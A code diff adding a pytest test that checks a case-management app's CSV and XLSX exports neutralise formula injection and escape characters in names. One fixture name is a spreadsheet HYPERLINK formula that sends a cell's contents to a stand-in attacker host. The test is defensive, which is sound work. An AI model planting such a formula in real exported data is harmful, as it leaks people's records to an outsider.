@@ -307,3 +307,27 @@ def test_intake_searches_only_visible_files_and_needs_consent(
     referral.refresh_from_db()
     assert referral.status == Referral.Status.INTAKE_STARTED
     assert referral.participant == visible
+
+
+@pytest.mark.parametrize("export_format", ["csv", "xlsx"])
+def test_export_neutralises_formulas_and_control_characters_in_names(
+    client_for, case_manager_a, org_a, export_format
+):
+    """A name typed as a formula is written as text; an escape character no longer makes it answer 500."""
+    from openpyxl import load_workbook
+
+    make_entry(case_manager_a, org_a, legal_first_name="Jean\x1bGuy", legal_last_name="Abel")
+    make_entry(
+        case_manager_a, org_a, legal_first_name='=HYPERLINK("http://evil.example/?x="&A3,"Voir")',
+        legal_last_name="Zed",
+    )
+    response = client_for(case_manager_a).get(EXPORT, {"format": export_format})
+    assert response.status_code == 200
+    if export_format == "csv":
+        names = [row[0] for row in _csv(response)[1:]]
+    else:
+        sheet = load_workbook(io.BytesIO(response.content)).active
+        names = [row[0] for row in sheet.iter_rows(min_row=2, values_only=True)]
+    assert len(names) == 2
+    assert not any(name.startswith(("=", "+", "-", "@")) for name in names)
+    assert any("Jean Guy" in name for name in names)
